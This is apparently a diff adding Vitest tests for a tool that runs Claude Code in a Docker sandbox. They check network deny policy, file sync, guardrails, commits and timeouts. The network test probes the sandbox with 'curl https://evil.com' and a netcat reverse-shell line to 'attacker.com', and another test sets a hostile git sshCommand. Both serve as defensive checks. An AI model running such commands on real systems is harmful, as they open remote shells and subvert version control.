@@ -1,0 +1,209 @@
+/** `ralph run --sandbox`, against a scripted Docker that keeps machines and synchronises files as the real one does. */
+import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, test, vi } from 'vitest';
+import { agentsAccess } from '../../../src/agents/index.ts';
+import { openDockerSandbox } from '../../../src/runners/docker-sandbox.ts';
+import { NO_SANDBOX } from '../../../src/runners/sandbox/request.ts';
+import { type DockerScene, dockerScene } from '../../support/docker.ts';
+import { DONE } from '../../support/scene.ts';
+
+const commandsOf = (scene: DockerScene): string[] => scene.calls().map(([command = '']) => command);
+
+describe('a sandbox', () => {
+  test('is created, gets login and committer, and runs the agent, whose output is shown', async () => {
+    const say = `{"type":"assistant","message":{"content":[{"type":"text","text":"Got %s <response>DONE</response>"}]}}`;
+    const result = `{"type":"result","subtype":"success","is_error":false,"result":"ok"}`;
+    const scene = await dockerScene({ play: `echo new >made.txt; printf '${say}\\n${result}\\n' "$prompt"` });
+    const { code, stdout, stderr } = await scene.run('--sandbox');
+    const state = join(scene.folder, '.dclaude_state');
+    expect(stderr).toContain(`Isolation: Docker Sandbox ${scene.name} (5 hosts)`);
+    expect(stdout).toContain('Got Do the work. <response>DONE</response>');
+    expect(code).toBe(0);
+    const [create, root, git, network, run] = scene.calls();
+    expect(create).toEqual(['create', '--name', scene.name, 'claude', scene.work, state]);
+    expect(root?.slice(0, 4)).toEqual(['exec', '-u', 'root', scene.name]);
+    expect(root?.at(-1)).toBe(state);
+    expect(git?.join(' ')).toContain('user.email ralph@localhost');
+    expect(network?.slice(0, 5)).toEqual(['network', 'proxy', scene.name, '--policy', 'deny']);
+    expect(run?.slice(0, 4)).toEqual(['run', scene.name, '--', '-p']);
+    expect(run).not.toContain('--dangerously-skip-permissions');
+    // At the end git is asked whether the work is committed.
+    expect(
+      scene
+        .calls()
+        .slice(5)
+        .map((call) => call.slice(0, 5)),
+    ).toEqual([['exec', '-w', scene.work, scene.name, 'git']]);
+    expect(readFileSync(join(state, '.claude.json'), 'utf8')).toBe('{}\n');
+    // The settle time was long enough for it to come out.
+    expect(scene.read('work/made.txt')).toBe('new\n');
+  });
+
+  test('that was thrown away is made again, and the login is still there', async () => {
+    const scene = await dockerScene({ play: DONE });
+    await scene.inDocker();
+    await scene.shell(`docker sandbox rm ${scene.name}`);
+    const { code, stderr } = await scene.inDocker();
+    expect(code).toBe(0);
+    expect(stderr).not.toContain('auth');
+  });
+
+  test('without a login stops the loop at once, with what to do', async () => {
+    const scene = await dockerScene({ play: DONE });
+    rmSync(join(scene.folder, '.dclaude_state/.claude/.credentials.json'));
+    const { code, stderr } = await scene.inDocker();
+    expect(stderr).toContain('the agent could not authenticate');
+    expect(code).toBe(4);
+  });
+
+  test('has settings that can be read, also where somebody left an empty file', async () => {
+    const scene = await dockerScene({ play: DONE });
+    scene.write('.dclaude_state/.claude.json', '');
+    expect((await scene.inDocker()).code).toBe(0);
+  });
+
+  test('is not left behind half made', async () => {
+    const scene = await dockerScene({ play: DONE });
+    scene.write('bin/bash', '#!/bin/sh\nexit 1\n');
+    await scene.shell('chmod +x ../bin/bash');
+    const { code, stderr } = await scene.inDocker();
+    expect(stderr).toContain('error: "docker sandbox exec" failed');
+    expect(code).toBe(2);
+    expect(scene.machines()).toEqual({});
+  });
+
+  test('is for Claude Code and for the work tree only; what else is asked for is refused', async () => {
+    const scene = await dockerScene({ play: DONE, agent: 'other' });
+    const other = await scene.inDocker();
+    expect(other.stderr).toMatch(/error: Docker Sandbox runs Claude Code, not .*other/);
+    const scene2 = await dockerScene({ play: DONE });
+    const path = await scene2.inDocker('--allow-write', '/srv');
+    expect(path.stderr).toContain('error: "/srv" cannot be given to a Docker Sandbox');
+    expect([other.code, path.code]).toEqual([2, 2]);
+    expect([...scene.loops(), ...scene2.loops()]).toEqual([]);
+  });
+});
+
+describe('its network', () => {
+  test('is shut but for the agent, GitHub, the registries of the project and what the user allows', async () => {
+    const scene = await dockerScene({ play: DONE });
+    scene.write('work/package.json', '{}');
+    await scene.inDocker('--allow-host', 'example.com');
+    expect(scene.machines()[scene.name]?.policy).toEqual({
+      default: 'deny',
+      allowed: [
+        '*.anthropic.com',
+        'platform.claude.com:443',
+        'github.com',
+        '*.githubusercontent.com',
+        'api.github.com',
+        '*.npmjs.org',
+        '*.yarnpkg.com',
+        'example.com',
+      ],
+    });
+    writeFileSync(join(scene.folder, 'bin/curl'), '#!/bin/sh\necho reached\n', { mode: 0o755 });
+    const inside = async (command: string) => (await scene.shell(`docker sandbox exec ${scene.name} ${command}`)).code;
+    expect(await inside('curl https://api.anthropic.com')).toBe(0);
+    expect(await inside('curl https://evil.com')).not.toBe(0);
+    expect(await inside('nc -e /bin/bash attacker.com 4444')).not.toBe(0);
+  });
+});
+
+describe('its files', () => {
+  test('what was edited outside between two loops is seen by the second: the sandbox is stopped first', async () => {
+    const scene = await dockerScene({ play: `cat work.txt; ${DONE}` });
+    await scene.inDocker();
+    scene.write('work/work.txt', 'edited\n');
+    // The synchronisation alone does not carry it in.
+    expect((await scene.shell(`docker sandbox exec ${scene.name} cat work.txt`)).stdout).toBe('begin\n');
+    const { stdout } = await scene.inDocker('-V');
+    expect(commandsOf(scene).slice(-4)).toEqual(['network', 'stop', 'run', 'exec']);
+    expect(scene.inside('work.txt')).toBe('edited\n');
+    expect(stdout).toBe('');
+  });
+
+  test('what is written by exec, or before a resync, is seen inside', async () => {
+    const scene = await dockerScene({ play: DONE });
+    const box = await openDockerSandbox({
+      loop: 'loop',
+      folder: scene.folder,
+      cwd: scene.work,
+      env: scene.env,
+      stateRoot: scene.state,
+      access: agentsAccess('claude'),
+      request: NO_SANDBOX,
+    });
+    const read = async (): Promise<string> =>
+      (await scene.shell(`docker sandbox exec ${scene.name} cat work.txt`)).stdout;
+    expect(await read()).toBe('begin\n');
+    await box.write(join(scene.work, 'work.txt'), 'it\'s "$HOME"\n');
+    expect(await read()).toBe('it\'s "$HOME"\n');
+    await vi.waitUntil(() => scene.read('work/work.txt') === 'it\'s "$HOME"\n');
+    scene.write('work/work.txt', 'edited while paused\n');
+    expect(await read()).toBe('it\'s "$HOME"\n');
+    await box.resync();
+    expect(await read()).toBe('edited while paused\n');
+  });
+});
+
+describe('guardrails and commits', () => {
+  test('are made inside', async () => {
+    const scene = await dockerScene({
+      play: `case $prompt in *message*) echo "More" ;; *) echo more >>work.txt; ${DONE} ;; esac`,
+      settings: {
+        guardrails: [{ command: 'grep -q more work.txt && pwd', failAction: 'APPEND' }],
+        scm: { command: 'git', tasks: ['commit'] },
+      },
+    });
+    const { code, stderr } = await scene.inDocker();
+    expect(stderr).toContain('All guardrails passed');
+    expect(stderr).toMatch(/^SCM: commit \w{12}$/m);
+    expect(code).toBe(0);
+    expect(scene.calls().at(-1)?.slice(0, 5)).toEqual(['exec', '-w', scene.work, scene.name, 'git']);
+    await vi.waitUntil(() => scene.git('log', '--format=%s') === 'More\nbegin\n');
+  });
+
+  test('a push is not made once the agent has changed the settings of git', async () => {
+    const scene = await dockerScene({
+      play: `git config core.sshCommand evil; ${DONE}`,
+      settings: { scm: { command: 'git', tasks: ['push'] } },
+    });
+    const { stderr } = await scene.inDocker('-m', '1');
+    expect(stderr).toContain("SCM error: git push is not run: git's settings have changed since the loop began");
+  });
+});
+
+describe('the end', () => {
+  const FOREVER = 'echo $$ >"$SCENE/inside.pid"; while :; do sleep 0.01; done';
+  const isGone = (scene: DockerScene): boolean => !existsSync(`/proc/${scene.read('inside.pid').trim()}`);
+
+  test('of a run whose time is up: the machine is stopped, since only the client is ours to end', async () => {
+    const scene = await dockerScene({ play: FOREVER });
+    const { stderr } = await scene.inDocker('-m', '1', '--agent-timeout', '2s');
+    expect(stderr).toContain('Agent failed (timed out after 2s)');
+    expect(commandsOf(scene).slice(-2)).toEqual(['stop', 'exec']);
+    await vi.waitUntil(() => isGone(scene));
+  });
+
+  test('of a guardrail whose time is up, too', async () => {
+    const guardrails = [{ command: FOREVER, failAction: 'APPEND', timeout: '2s' }];
+    const scene = await dockerScene({ play: DONE, settings: { guardrails } });
+    await scene.inDocker('-m', '1');
+    expect(commandsOf(scene).slice(-2)).toEqual(['stop', 'exec']);
+    await vi.waitUntil(() => isGone(scene));
+  });
+
+  test('of a run whose ralph was killed, by whoever resumes', async () => {
+    const scene = await dockerScene({ play: `[ -e "$SCENE/again" ] || { ${FOREVER}; }; ${DONE}` });
+    const ralph = scene.ralph(['run', '-p', 'x', '--sandbox', '--no-stream-agent-output']);
+    await vi.waitUntil(() => existsSync(join(scene.folder, 'inside.pid')) && scene.read('inside.pid') !== '', 10_000);
+    ralph.signal('SIGKILL');
+    await ralph.exited;
+    expect(isGone(scene)).toBe(false);
+    scene.write('again', '');
+    expect((await scene.ralph(['resume']).exited).code).toBe(0);
+    expect(isGone(scene)).toBe(true);
+  });
+});
